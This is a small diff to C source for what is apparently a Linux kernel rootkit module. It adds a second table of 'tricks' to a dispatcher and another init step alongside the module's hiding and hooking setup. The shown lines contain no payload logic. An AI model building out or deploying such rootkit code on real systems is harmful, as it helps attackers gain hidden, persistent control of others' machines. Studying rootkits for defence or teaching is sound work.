@@ -64,6 +64,7 @@ static int play(const char *name)
 	int r;
 
 	t = t ? t : find(hook_tricks, name);
+	t = t ? t : find(other_tricks, name);
 	if (!t)
 		return -EINVAL;
 	if (t->played || nplayed == MAX_PLAYED)
@@ -117,6 +118,8 @@ static int __init rootkit_init(void)
 		r = hide_init();
 	if (!r)
 		r = hook_init();
+	if (!r)
+		r = other_init();
 	if (r)
 		return r;
 	file = proc_create("tells_rootkit", 0200, NULL, &file_ops);
